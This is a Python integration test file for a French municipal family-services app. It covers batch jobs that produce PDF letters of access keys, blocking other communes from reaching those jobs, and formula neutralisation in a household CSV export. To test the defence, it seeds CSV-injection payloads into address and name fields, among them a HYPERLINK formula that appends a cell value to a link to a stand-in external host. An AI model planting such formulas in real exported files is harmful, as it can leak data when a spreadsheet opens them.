"""Background jobs end to end: the batch of clé enfance letters for a town's imported households runs as a job whose
page an agent follows, and whose PDF holds one letter per unlinked representative with the very keys the database
holds (as digests); another commune's agent reaches neither the job nor its file. And the CSV export of the
households, whose cells a spreadsheet would run as formulas are neutralised."""
import base64
import csv
import hashlib
import io
import os
import re
import stat
import time
import unittest
import urllib.parse

from harness import run_cli
from test_families import C, FR, KEY, FamilyServerCase, pdf_text

HOUSEHOLDS = 600  # two representatives each: 1,200 letters, three chunks of keys
COLUMNS = ("reference;rep1_civilite;rep1_nom;rep1_prenom;rep1_lien;rep1_courriel;rep1_portable;rep2_civilite;"
           "rep2_nom;rep2_prenom;rep2_lien;rep2_courriel;rep2_portable;adresse;complement;code_postal;ville;"
           "enfant_nom;enfant_prenom;enfant_naissance;enfant_sexe;enfant_ecole;enfant_classe;enfant_regime;"
           "enfant_pai")
# What a spreadsheet would run if a cell started with it: a link, sums, a function.
FORMULAS = ['=HYPERLINK("http://exemple.invalid/?v="&A1;"Cliquez")', "+1+1", "-2+3", "@SUM(1;2)"]


def csv_field(value):
    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ';"\n') else value


def households_csv():
    lines = [COLUMNS]
    for i in range(HOUSEHOLDS):
        lines.append(f"J{i:05d};madame;Lettre;Claire;mother;;;monsieur;Lettre;Luc;father;;;{i} rue de la Gare;;"
                     f"78570;Chanteloup-les-Vignes;Lettre;Paul;2017-05-01;male;École Victor Hugo;ce2;standard;non")
    # An address is free text: a family types it at sign-up, and the import takes it as it is.
    for i, formula in enumerate(FORMULAS):
        lines.append(";".join(csv_field(v) for v in [
            f"X{i:05d}", "madame", "Formule", "Anne", "mother", "", "", "", "", "", "", "", "",
            formula, formula, "78570", "Chanteloup-les-Vignes", "Formule", "Zoé", "2018-03-04", "female", "", "cp",
            "standard", "non"]))
    return "\n".join(lines) + "\n"


class JobsTest(FamilyServerCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.other_agent = cls.staff("andresy", "agent@andresy.example.fr")
        path = os.path.join(cls.database.folder, "foyers.csv")
        with open(path, "w", encoding="utf-8") as f:
            f.write(households_csv())
        imported = run_cli("family", "import", "chanteloup-les-vignes", path, "--config", cls.config,
                           database=cls.database.url, timeout=600)
        assert imported.returncode == 0, imported.stderr
        # Names are checked as names now; records kept from before the rule (or written by another tool) may still
        # hold anything: the representatives of these households are given the formulas behind the server's back.
        for i, formula in enumerate(FORMULAS):
            cls.database.execute(
                f"UPDATE representative SET last_name = '{formula}', first_name = '{formula}' WHERE household_id = "
                f"(SELECT id FROM household WHERE reference = 'X{i:05d}')")

    def server_key(self):
        return base64.b64decode(self.database.scalar("SELECT key_base64 FROM server_key WHERE id = 1"))

    def unlinked_with_digests(self, digests):
        """(how many representatives of the commune have no account, how many of them hold one of these key
        digests), read behind the server's back."""
        commune = self.database.scalar("SELECT id FROM commune WHERE slug = 'chanteloup-les-vignes'")
        unlinked = f"SELECT COUNT(*) FROM representative WHERE commune_id = {commune} AND account_id IS NULL"
        listed = ", ".join(f"'{digest}'" for digest in sorted(digests))
        return (self.database.scalar(unlinked),
                self.database.scalar(unlinked + f" AND key_digest IN ({listed})"))

    def test_the_batch_runs_as_a_job_whose_pdf_holds_every_key_the_database_holds(self):
        expected = HOUSEHOLDS * 2 + len(FORMULAS)
        job_id, pdf = self.letters_batch()
        job_url = f"{C}agents/travaux/{job_id}"

        # The job's row: done, every letter counted, its file in the configured folder, readable by the server only.
        self.assertEqual(self.database.scalar(f"SELECT status FROM job WHERE id = {job_id}"), "done")
        self.assertEqual(self.database.scalar(f"SELECT done_count FROM job WHERE id = {job_id}"), expected)
        self.assertEqual(self.database.scalar(f"SELECT total_count FROM job WHERE id = {job_id}"), expected)
        file_name = self.database.scalar(f"SELECT file_name FROM job WHERE id = {job_id}")
        file_path = os.path.join(self.jobs_folder, file_name)
        self.assertEqual(stat.S_IMODE(os.stat(file_path).st_mode), 0o600)
        self.assertEqual(stat.S_IMODE(os.stat(self.jobs_folder).st_mode), 0o700)
        with open(file_path, "rb") as f:
            self.assertEqual(f.read(), pdf, "the download is the file")

        # One letter per unlinked representative, each with its own key, and those keys are the ones stored.
        text = pdf_text(pdf)
        keys = KEY.findall(text)
        self.assertEqual(len(keys), expected)
        self.assertEqual(len(set(keys)), expected)
        self.assertEqual(text.count(FR["letter_subject"].replace("\u00a0", " ")), expected)
        server_key = self.server_key()
        printed = {hashlib.blake2b(k.replace("-", "").encode(), digest_size=32, key=server_key).hexdigest()
                   for k in keys}
        self.assertEqual(len(printed), expected)
        self.assertEqual(self.unlinked_with_digests(printed), (expected, expected),
                         "every unlinked representative holds one of the printed keys, and only those")
        done = self.agent.get(job_url)
        self.assertIn("1\u202f204 / 1\u202f204 " + FR["job_key_letters_unit"], done.text)
        self.assertNotIn('http-equiv="refresh"', done.text, "a finished job's page stays still")

        # And a key of the batch links: the last letter's parent creates his space with it.
        last = keys[-1]
        parent = self.parent(key=last)
        digest = hashlib.blake2b(last.replace("-", "").encode(), digest_size=32, key=server_key).hexdigest()
        linked = self.database.scalar(f"SELECT account_id FROM representative WHERE key_digest = '{digest}'")
        self.assertEqual(linked, self.account_id(parent))

        # Another commune's agent reaches neither the job nor its file, by his commune's path or by this one's.
        for path in [f"/andresy/agents/travaux/{job_id}", f"/andresy/agents/travaux/{job_id}/fichier"]:
            refused = self.other_agent.get(path)
            self.assertEqual(refused.status, 404, path)
            self.assertNotIn(b"%PDF", refused.body)
        for path in [job_url, job_url + "/fichier"]:
            refused = self.other_agent.get(path)
            self.assertNotEqual(refused.status, 200, path)
            self.assertNotIn(b"%PDF", refused.body)
        for path in [f"{C}agents/travaux/999999", f"{C}agents/travaux/999999/fichier", f"{C}agents/travaux/abc"]:
            self.assertEqual(self.agent.get(path).status, 404, path)
        self.assertEqual(parent.get(job_url).status, 403, "a parent is no agent")
        self.assertEqual(parent.get(job_url + "/fichier").status, 403)

        # A day later the file is gone (housekeeping, as the runner tests show): the page says so, and the link
        # leads back to it.
        os.remove(file_path)
        self.database.execute(f"UPDATE job SET file_expired_at_us = {int(time.time() * 1e6)} WHERE id = {job_id}")
        expired = self.agent.get(job_url)
        self.assertIn(FR["job_start_again"], expired.text)
        self.assertNotIn(FR["job_download"], expired.text)
        gone = self.agent.get(job_url + "/fichier")
        self.assertEqual((gone.status, urllib.parse.urlsplit(gone.location).path), (303, job_url))

    def test_a_running_job_shows_its_progress_refreshes_without_javascript_and_blocks_a_second_one(self):
        # A job as the runner leaves it between two chunks, written behind the server's back so that the page is
        # seen in that state whatever the machine's speed.
        commune = self.database.scalar("SELECT id FROM commune WHERE slug = 'chanteloup-les-vignes'")
        agent_id = self.database.scalar("SELECT id FROM account WHERE email_lower = 'agent@mairie.example.fr'")
        self.assertIsNone(self.database.scalar(
            "SELECT id FROM job WHERE status IN ('queued', 'running') AND kind = 'key_letters'"))
        self.database.execute(
            "INSERT INTO job (commune_id, kind, requested_by, language, parameters, status, done_count, total_count, "
            f"file_name, error_key, created_at_us, started_at_us) VALUES ({commune}, 'key_letters', {agent_id}, 'fr', "
            f"'{{}}', 'running', 1500, 20000, 'job-0-abcdef.pdf', '', {int(time.time() * 1e6)}, "
            f"{int(time.time() * 1e6)})")
        running_id = self.database.scalar("SELECT MAX(id) FROM job")
        try:
            job_url = f"{C}agents/travaux/{running_id}"
            page = self.agent.get(job_url)
            self.assertEqual(page.status, 200)
            self.assertIn("1\u202f500 / 20\u202f000 " + FR["job_key_letters_unit"], page.text)
            self.assertRegex(page.text, r'<p class="job__status" id="travail-etat" role="status">[^<]*1\u202f500')
            self.assertRegex(page.text, r'<progress [^>]*id="travail-avancement" max="20000" value="1500">')
            self.assertRegex(page.text, r'<label [^>]*for="travail-avancement">' + re.escape(FR["job_progress_label"]))
            self.assertIn('<noscript><meta http-equiv="refresh" content="5"></noscript>', page.text)
            self.assertNotIn(FR["job_download"], page.text)
            self.assertEqual(self.agent.get(job_url + "/fichier").status, 404, "no file before the job is done")
            still = self.agent.get(job_url + "?actualisation=non")
            self.assertNotIn('http-equiv="refresh"', still.text, "the visitor may stop the refresh")
            self.assertIn(FR["job_refresh_stopped"], still.text)

            jobs_before = self.database.scalar("SELECT COUNT(*) FROM job")
            refused = self.start_letters()
            self.assertEqual((refused.status, urllib.parse.urlsplit(refused.location).path), (303, job_url))
            self.assertEqual(self.database.scalar("SELECT COUNT(*) FROM job"), jobs_before, "no second job")
            self.assertIn(FR["msg_letters_already_running"], self.agent.get(job_url).text)
            self.assertIn(FR["agents_families_letters_running"], self.agent.get(C + "agents/familles").text)
        finally:
            self.database.execute(f"UPDATE job SET status = 'failed', error_key = 'err_job_interrupted' "
                                  f"WHERE id = {running_id}")
        failed = self.agent.get(f"{C}agents/travaux/{running_id}")
        self.assertIn(FR["err_job_interrupted"], failed.text)
        self.assertNotIn('http-equiv="refresh"', failed.text)

    def test_the_households_export_neutralises_formulas_for_spreadsheets(self):
        response = self.agent.get(C + "agents/familles/export.csv")
        self.assertEqual(response.status, 200)
        self.assertEqual(response.headers["content-type"], "text/csv; charset=utf-8")
        self.assertIn('attachment; filename="foyers-chanteloup-les-vignes.csv"', response.headers["content-disposition"])
        self.assertTrue(response.body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel")
        text = response.body[3:].decode("utf-8")
        self.assertTrue(text.endswith("\r\n"))
        self.assertNotIn("\n", text.replace("\r\n", ""), "every line ends with CRLF")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
        self.assertEqual(rows[0][0], FR["csv_reference"])
        by_reference = {row[0]: row for row in rows[1:]}
        self.assertEqual(len(by_reference), len(rows) - 1)
        self.assertIn("J00000", by_reference)
        self.assertEqual(by_reference["J00000"][1:3], ["Lettre", "Claire"])
        self.assertEqual(by_reference["J00000"][7:9], ["Lettre", "Luc"])
        columns = [rows[0].index(FR[key]) for key in
                   ("csv_rep1_last_name", "csv_rep1_first_name", "csv_address_line", "csv_address_complement")]
        children = rows[0].index(FR["csv_children"])
        linked = rows[0].index(FR["csv_rep1_linked"])
        for i, formula in enumerate(FORMULAS):
            row = by_reference[f"X{i:05d}"]
            for column in columns:
                self.assertEqual(row[column], "'" + formula, (formula, rows[0][column]))
            self.assertEqual(row[children], "1")
            accounts = self.database.scalar(
                "SELECT COUNT(*) FROM representative WHERE account_id IS NOT NULL AND household_id = "
                f"(SELECT id FROM household WHERE reference = 'X{i:05d}')")
            self.assertEqual(row[linked], FR["csv_yes"] if accounts else FR["csv_no"])
        for line in text.split("\r\n"):
            for cell in next(csv.reader([line], delimiter=";"), []):
                self.assertFalse(cell[:1] in ("=", "+", "-", "@", "\t", "\r"), cell)

        theirs = self.other_agent.get("/andresy/agents/familles/export.csv")
        self.assertEqual(theirs.status, 200)
        self.assertNotIn(b"J00000", theirs.body, "another commune exports its own households only")


if __name__ == "__main__":
    unittest.main()
